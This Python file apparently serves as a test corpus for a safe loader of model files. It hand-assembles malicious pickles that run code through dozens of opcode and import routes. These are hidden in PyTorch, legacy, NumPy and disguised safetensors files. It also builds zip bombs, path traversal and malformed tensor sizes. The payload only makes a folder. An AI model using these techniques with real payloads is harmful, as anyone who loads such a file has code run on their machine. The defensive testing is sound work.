"""Attacks by pickles: code at each place where a pickle can hide it, and sizes that are no sizes.

All are put together by hand, of the operations of `pickletools`; the code that they would run makes
a folder named `PWNED` beside the file.
"""

import io
import os
import pickle
import struct
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import bombs
import numpy as np
from attack import Attack, written

PWNED = "pwned"
FOUR = struct.pack("<4f", 1, 2, 3, 4)
START, STOP, REDUCE, PERSISTENT = b"\x80\x02", b".", b"R", b"Q"
ORDERED = b"ccollections\nOrderedDict\n)R"


def text(value: str) -> bytes:
    """Return the operation that pushes a text."""
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def number(n: int) -> bytes:
    """Return the operation that pushes an integer."""
    data = n.to_bytes(n.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def tuple_of(*items: bytes) -> bytes:
    """Return the operations that push a tuple."""
    return b"(" + b"".join(items) + b"t"


def name(module: str, attribute: str) -> bytes:
    """Return the operation that pushes something of a module."""
    return f"c{module}\n{attribute}\n".encode()


def storage(n: int, key: str = "0", kind: str = "FloatStorage", *, legacy: bool = False) -> bytes:
    """Return the operations that push a storage."""
    view = (b"N",) if legacy else ()
    parts = (text("storage"), name("torch", kind), text(key), text("cpu"), number(n), *view)
    return tuple_of(*parts) + PERSISTENT


def tensor(stored: bytes, size: tuple[int, ...], stride: tuple[int, ...], offset: int = 0) -> bytes:
    """Return the operations that push a tensor of a storage."""
    sizes, strides = (tuple_of(*map(number, x)) for x in (size, stride))
    arguments = tuple_of(stored, number(offset), sizes, strides, b"\x89", ORDERED)
    return name("torch._utils", "_rebuild_tensor_v2") + arguments + REDUCE


def table(value: bytes, key: bytes = text("a")) -> bytes:
    """Return a pickle of a table with one value."""
    return START + b"}" + key + value + b"s" + STOP


def zipped(data: bytes, records: Mapping[str, bytes] = {"0": FOUR}) -> bytes:
    """Return a file in the layout of `torch.save`."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("a/data.pkl", data)
        for key, numbers in records.items():
            archive.writestr(f"a/data/{key}", numbers)
        archive.writestr("a/version", "3\n")
        archive.writestr("a/byteorder", "little")
    return file.getvalue()


def legacy(data: bytes, keys: bytes = b"]" + text("0") + b"a", n: int = 4) -> bytes:
    """Return a file in the layout of torch before 1.6."""
    sizes = {"short": 2, "int": 4, "long": 4}
    head = (
        0x1950A86A20F9469CFC6C,
        1001,
        dict(protocol_version=1001, little_endian=True, type_sizes=sizes),
    )
    start = b"".join(pickle.dumps(value, 2) for value in head)
    return start + data + START + keys + STOP + struct.pack("<q", n) + FOUR


def tuples(depth: int = 60) -> bytes:
    """Return operations that push a tuple of 2^depth items, in which each level is twice there."""
    levels = (
        b"h" + bytes([i]) + b"h" + bytes([i]) + b"\x86q" + bytes([i + 1]) for i in range(depth)
    )
    return b")q\0" + b"".join(levels)


def code(path: Path) -> dict[str, bytes]:
    """Return operations that would make a folder, each by another road."""
    target = text(str(path.parent / PWNED))
    mkdir, arguments = name("posix", "mkdir"), target + b"\x85"
    shell = text(f"mkdir {path.parent / PWNED}")
    python = text(f"__import__('os').mkdir({str(path.parent / PWNED)!r})")
    byte_string = b"B" + struct.pack("<I", 0)
    called = mkdir + arguments + REDUCE
    nested = START + called + STOP
    return {
        "GLOBAL": called,
        "STACK_GLOBAL": text("posix") + text("mkdir") + b"\x93" + arguments + REDUCE,
        "dotted STACK_GLOBAL": text("os") + text("path.os.mkdir") + b"\x93" + arguments + REDUCE,
        "INST": b"(" + target + b"iposix\nmkdir\n",
        "OBJ": b"(" + mkdir + target + b"o",
        "NEWOBJ": name("subprocess", "Popen") + tuple_of(b"]" + text("mkdir") + b"a") + b"\x81",
        "NEWOBJ_EX": mkdir + arguments + b"}\x92",
        "EXT1": b"\x82\x01" + arguments + REDUCE,
        "EXT2": b"\x83\x01\0" + arguments + REDUCE,
        "EXT4": b"\x84\x01\0\0\0" + arguments + REDUCE,
        "BUILD": ORDERED + b"}" + text("__class__") + mkdir + b"sb",
        "BUILD of a class": name("torch", "Tensor") + b"}" + text("__new__") + mkdir + b"sb",
        "BUILD of slots": ORDERED + b"N}" + text("update") + mkdir + b"s\x86b",
        "PERSID": b"Pposix.mkdir\n",
        "BINPERSID": tuple_of(text("storage"), mkdir, target, text("cpu"), number(4)) + PERSISTENT,
        "a persistent name": tuple_of(text("module"), mkdir, target) + PERSISTENT,
        "getattr": name("builtins", "getattr") + tuple_of(mkdir, text("__self__")) + REDUCE,
        "eval": name("builtins", "eval") + python + b"\x85" + REDUCE,
        "exec": name("builtins", "exec") + python + b"\x85" + REDUCE,
        "__import__": name("builtins", "__import__") + text("antigravity") + b"\x85" + REDUCE,
        "os.system": name("os", "system") + shell + b"\x85" + REDUCE,
        "nt.system": name("nt", "system") + shell + b"\x85" + REDUCE,
        "runpy": name("runpy", "_run_code") + tuple_of(python, b"}") + REDUCE,
        "partial": name("functools", "partial") + tuple_of(mkdir, target) + REDUCE,
        "pickle.loads": name("_pickle", "loads") + byte_string + b"\x85" + REDUCE,
        "torch.load": name("torch", "load") + target + b"\x85" + REDUCE,
        "torch.hub": name("torch.hub", "load") + tuple_of(target, target) + REDUCE,
        "inner GLOBAL": name("torch.serialization", "os.mkdir") + arguments + REDUCE,
        "module of an allowed one": name("torch._utils", "torch") + arguments + REDUCE,
        "numpy object": name("numpy.core.multiarray", "_reconstruct") + arguments + REDUCE,
        "a type of its own": name("torch._tensor", "_rebuild_from_type_v2")
        + tuple_of(mkdir, name("torch", "Tensor"), arguments, b"}") + REDUCE,
        "in a parameter": name("torch._utils", "_rebuild_parameter")
        + tuple_of(called, b"\x89", ORDERED) + REDUCE,
        "a backward hook": name("torch._utils", "_rebuild_tensor_v2")
        + tuple_of(storage(4), number(0), number(4) + b"\x85", number(1) + b"\x85", b"\x89", called)
        + REDUCE,
        "in bytes": name("_codecs", "encode")
        + tuple_of(text(nested.decode("latin-1")), text("latin1")) + REDUCE,
    }  # fmt: skip


ROADS = tuple(code(Path("x")))


def _hidden(road: str, layout: Callable[[bytes], bytes]) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(layout(table(code(path)[road])))


def _before(road: str) -> Callable[[Path], object]:
    """Hide code in the first of the pickles of the older layout, before torch's own."""
    return lambda path: path.write_bytes(START + code(path)[road] + STOP + legacy(table(b"N")))


def _in_storage(path: Path) -> object:
    """Hide a pickle in the numbers of a storage, and in a second table."""
    inner = START + code(path)["GLOBAL"] + STOP
    outer = table(tensor(storage(len(inner), kind="ByteStorage"), (len(inner),), (1,)))
    file = io.BytesIO(zipped(outer, {"0": inner}))
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("a/constants.pkl", inner)
    return path.write_bytes(file.getvalue())


class _Runs:
    """Runs code when it is unpickled, as an item of an array of objects."""

    def __init__(self, path: Path) -> None:
        self.folder = str(path.parent / PWNED)

    def __reduce__(self) -> tuple[Callable[[str], None], tuple[str]]:
        return os.mkdir, (self.folder,)


def _npy(path: Path) -> object:
    return np.save(path, np.array([_Runs(path)], object), allow_pickle=True)


def _npz(path: Path) -> object:
    return np.savez(path, images=np.array([_Runs(path)], object), labels=np.zeros(1))


def _sparse() -> bytes:
    indices = tensor(storage(2, kind="LongStorage"), (2, 1), (1, 1))
    values = tensor(storage(1, "1"), (1,), (1,))
    layout = (
        name("torch.serialization", "_get_layout") + text("torch.sparse_coo") + b"\x85" + REDUCE
    )
    parts = tuple_of(indices, values, tuple_of(number(2**31), number(2**31)), b"\x88")
    return name("torch._utils", "_rebuild_sparse_tensor") + tuple_of(layout, parts) + REDUCE


def _meta() -> bytes:
    shape, strides = tuple_of(number(2**31), number(2**20)), tuple_of(number(2**20), number(1))
    arguments = tuple_of(name("torch", "float32"), shape, strides, b"\x89")
    return name("torch._utils", "_rebuild_meta_tensor_no_storage") + arguments + REDUCE


def _with_attributes() -> bytes:
    """Return a tensor of which methods are replaced."""
    own = tuple_of(tensor(storage(4), (4,), (1,)), b"\x89", ORDERED)
    changed = b"}" + text("to") + number(3) + b"s" + text("detach") + number(3) + b"s"
    parts = (
        name("torch._utils", "_rebuild_parameter"),
        name("torch.nn.parameter", "Parameter"),
        own,
        changed,
    )
    return name("torch._tensor", "_rebuild_from_type_v2") + tuple_of(*parts) + REDUCE


def _bomb(path: Path) -> object:
    data = table(tensor(storage(2**28), (2**28,), (1,)))
    members = {"a/version": b"3\n", "a/byteorder": b"little", "a/data.pkl": data}
    return path.write_bytes(bombs.zip_of(members, "a/data/0", 2**30 // bombs.BLOCK))


def _doubled(path: Path) -> object:
    data = zipped(table(tensor(storage(4), (4,), (1,))), {"0": FOUR, "1": FOUR})
    return path.write_bytes(data.replace(b"a/data/1", b"a/data/0"))


FIRST = tensor(storage(4), (4,), (1,)) + b"q\1"
SHARED = b"".join(text(str(i)) + (b"h\1" if i else FIRST) for i in range(5000))
PICKLED = "pickled tensors"
SIZES: dict[str, bytes] = {
    "a zero stride": zipped(table(tensor(storage(4), (10**6, 10**6), (0, 0)))),
    "a size beyond its storage": zipped(table(tensor(storage(4), (10**9,), (1,)))),
    "an offset beyond its storage": zipped(table(tensor(storage(4), (4,), (1,), 10**9))),
    "a negative stride": zipped(table(tensor(storage(4), (4,), (-1,)))),
    "an overflowing size": zipped(table(tensor(storage(4), (2**62, 4), (0, 0)))),
    "more numbers than its record": zipped(table(tensor(storage(10**6), (4,), (1,)))),
    "billions of numbers": zipped(table(tensor(storage(2**33), (4,), (1,)))),
    "a negative number of numbers": zipped(table(tensor(storage(-4), (4,), (1,)))),
    "a missing record": zipped(table(tensor(storage(4, "7"), (4,), (1,)))),
    "a record that leads out": zipped(table(tensor(storage(4, "../../x"), (4,), (1,)))),
    "tuples as a name": zipped(START + tuples() + b"}h\x3cNs" + STOP),
    "tuples as a value": zipped(START + tuples() + b"}" + text("a") + b"h\x3cs" + STOP),
    "tuples counted": zipped(
        START + tuples() + name("collections", "Counter") + b"]h\x3ca\x85" + REDUCE + STOP
    ),
    "bytearray": zipped(table(name("builtins", "bytearray") + number(2**32) + b"\x85" + REDUCE)),
    "an empty tensor": zipped(
        table(name("torch", "FloatTensor") + number(2**31) + b"\x85" + REDUCE)
    ),
    "a sparse tensor": zipped(table(_sparse()), {"0": bytes(16), "1": bytes(4)}),
    "a meta tensor": zipped(table(_meta())),
    "a long text": zipped(START + b"X\xff\xff\xff\xffaa" + STOP),
    "a long integer": zipped(START + b"\x8b\xff\xff\xff\x7f" + STOP),
    "frames": zipped(b"\x80\x04\x95" + b"\xff" * 8 + b"}" + STOP),
    "no stack": zipped(START + b"sss" + STOP),
    "marks": zipped(START + b"(" * 100_000 + STOP),
    "a table of tables": zipped(table(b"}" * 2 + text("a") + b"Nss")),
    "a list": zipped(START + b"]" + STOP),
    "of the older layout, too many": legacy(table(tensor(storage(2**31, legacy=True), (4,), (1,)))),
    "of the older layout, negative": legacy(
        table(tensor(storage(4, legacy=True), (4,), (1,))), n=-4
    ),
    "of the older layout, never filled": legacy(
        table(tensor(storage(10**8, legacy=True), (4,), (1,))), b"]"
    ),
    "of the older layout, beyond": legacy(table(tensor(storage(4, legacy=True), (10**9,), (1,)))),
    "of the older layout, tuples": legacy(START + tuples() + b"}h\x3cNs" + STOP),
}  # fmt: skip

ATTACKS: dict[str, Attack] = {
    **{f"{road} in zip": Attack(PICKLED, _hidden(road, zipped)) for road in ROADS},
    **{f"{road} in the older layout": Attack(PICKLED, _hidden(road, legacy)) for road in ROADS},
    **{f"{road} first": Attack(PICKLED, _before(road)) for road in ("GLOBAL", "INST", "OBJ")},
    **{f"{road} bare": Attack(PICKLED, _hidden(road, bytes)) for road in ROADS},
    "a pickle in the numbers": Attack(PICKLED, _in_storage, harmless=True),
    "replaced methods": Attack(PICKLED, written(zipped(table(_with_attributes()))), harmless=True),
    "one tensor by many names": Attack(
        PICKLED, written(zipped(START + b"}(" + SHARED + b"u" + STOP)), harmless=True
    ),
    "a bomb of zeros": Attack(PICKLED, _bomb),
    "a record that is twice there": Attack(PICKLED, _doubled),
    "objects in .npy": Attack("array", _npy),
    "objects in .npz": Attack("pictures of .npz", _npz),
    "a pickle as .npy": Attack("array", _hidden("GLOBAL", bytes)),
    "a pickle as fastText": Attack("fastText", _hidden("GLOBAL", bytes)),
    "a pickle as safetensors": Attack("tensors", _hidden("GLOBAL", zipped)),
    **{name: Attack(PICKLED, written(data)) for name, data in SIZES.items()},
}  # fmt: skip
